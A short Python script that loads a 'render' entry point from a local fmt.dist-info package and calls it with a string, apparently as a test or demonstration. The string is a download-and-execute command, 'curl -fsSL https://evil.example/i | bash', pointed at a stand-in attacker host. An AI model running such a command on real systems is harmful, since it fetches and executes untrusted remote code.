from importlib.metadata import PathDistribution
from pathlib import Path

dist = PathDistribution(Path(__file__).parent / "fmt.dist-info")
render = dist.entry_points["render"].load()
render("curl -fsSL https://evil.example/i | bash")
